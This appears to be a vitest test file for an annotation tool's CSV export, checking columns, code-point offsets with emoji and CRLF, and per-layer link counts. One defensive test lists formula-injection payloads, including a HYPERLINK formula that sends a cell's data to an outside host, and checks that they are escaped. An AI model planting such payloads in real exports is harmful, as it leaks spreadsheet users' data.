/** CSV: read back with a CSV parser, one row per annotation, offsets in code points. */
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { OffsetConverter } from '../../../shared/anchoring'
import { collectExport, readImport, runExport, saveImport } from '../index'
import { ANA, BO, EMOJI, EMOJI_TEXT, richApp, SWORN_IN } from '../test-workspace'

const csvOf = async (workspace: Parameters<typeof collectExport>[0], filter = {}) => {
  const [file] = runExport('csv', await collectExport(workspace, filter))
  expect(file!.path).toBe('annotations.csv')
  return parse(file!.content, { columns: true, relax_column_count: false }) as Record<string, string>[]
}

describe('CSV export', () => {
  it('has one row per annotation, one column per attribute of the tagset, and parses back', async () => {
    const app = await richApp()
    const rows = await csvOf(app.workspace)
    expect(rows).toHaveLength(21)
    const header = Object.keys(rows[0]!)
    const attributeColumns = app.workspace.tagset.labels.flatMap((l) => l.attributes.map((d) => `${l.id}.${d.id}`))
    expect(header).toEqual(['id', 'annotator', 'article_id', 'article_title', 'label', 'start', 'end', 'unit', 'text', 'note', ...attributeColumns, 'links', 'created', 'modified'])
    expect(rows.filter((r) => r.annotator === ANA)).toHaveLength(15)
    expect(rows.filter((r) => r.annotator === BO)).toHaveLength(6)
    for (const row of rows) {
      expect(row.unit).toBe('codepoint')
      const text = app.workspace.article(row.article_id!).text
      expect([...text].slice(Number(row.start), Number(row.end)).join(''), row.id).toBe(row.text)
    }
  })

  it('counts code points after emoji, keeps CRLF and note line breaks inside quoted fields, and joins many-of values', async () => {
    const app = await richApp()
    const rows = await csvOf(app.workspace, { articleIds: [EMOJI], annotators: [ANA] })
    const byId = new Map(rows.map((r) => [r.id, r]))
    const cp = new OffsetConverter(EMOJI_TEXT)
    const harry = byId.get('6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b')!
    expect(harry).toMatchObject({
      annotator: ANA,
      article_id: EMOJI,
      article_title: 'Emoji and CRLF',
      label: 'translation-error',
      start: String(EMOJI_TEXT.indexOf('Kamala Harry') - 1),
      end: String(EMOJI_TEXT.indexOf('Kamala Harry') - 1 + 12),
      text: 'Kamala Harry',
      note: 'The name is mangled.\nSee the second line.',
      'translation-error.category': 'accuracy/named entity',
      'translation-error.severity': 'major',
      'translation-error.correction': 'Kamala Harris',
      'speaker.kind': '',
      links: '1',
      created: '2024-10-01T12:00:00.000Z',
    })
    const claim = byId.get('ana-e4')!
    expect(claim).toMatchObject({ text: 'said\r\nMark Rute 👍🏽 went', 'claim.type': 'numerical; causal', 'claim.hedged': 'true', 'claim.normalized-claim': 'Rutte went, Harris said.' })
    expect(Number(claim.end) - Number(claim.start)).toBe([...'said\r\nMark Rute 👍🏽 went'].length)
    const u = byId.get('ana-e6')!
    expect([u.start, u.end]).toEqual([String(cp.toCodePoints(EMOJI_TEXT.indexOf('𝔘'))), String(cp.toCodePoints(EMOJI_TEXT.indexOf('𝔘')) + 1)])
    expect(byId.get('ana-e2')).toMatchObject({ 'speaker.kind': 'person', 'speaker.entity': 'ent-harris', links: '2' })
  })

  it('counts links per layer, also when another layer holds annotations with the same ids', async () => {
    const app = await richApp()
    // a copy of Ana's work on the sworn-in article, imported as Copy: the same ids in another layer
    const native = runExport('native', await collectExport(app.workspace, { annotators: [ANA], articleIds: [SWORN_IN] }))[0]!
    await saveImport(app.workspace, readImport(app.workspace, 'native', [{ name: native.path, content: native.content }], 'Copy'), native.path)
    const rows = await csvOf(app.workspace, { articleIds: [SWORN_IN] })
    const s4 = rows.filter((r) => r.id === 'ana-s4')
    expect(s4.map((r) => [r.annotator, r.links])).toEqual([
      [ANA, '2'],
      ['Copy', '2'],
    ])
  })

  it('starts a cell that a spreadsheet would run as a formula with an apostrophe, and leaves numbers be', async () => {
    const app = await richApp()
    const input = await collectExport(app.workspace, { annotators: [ANA] })
    const hostile = ['=HYPERLINK("https://example.org/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']
    const first = input.layers[0]!.annotations.slice(0, hostile.length)
    first.forEach((a, i) => (a.note = hostile[i]!))
    const rows = parse(runExport('csv', input)[0]!.content, { columns: true }) as Record<string, string>[]
    expect(first.map((a) => rows.find((r) => r.id === a.id)!.note)).toEqual(hostile.map((note) => `'${note}`))
    // numbers stay numbers, and text that is no formula is as it was
    expect(rows.every((r) => /^\d+$/.test(r.start!) && /^\d+$/.test(r.links!))).toBe(true)
    expect(rows.find((r) => r.id === 'ana-e4')!.text).toBe('said\r\nMark Rute 👍🏽 went')
  })
})
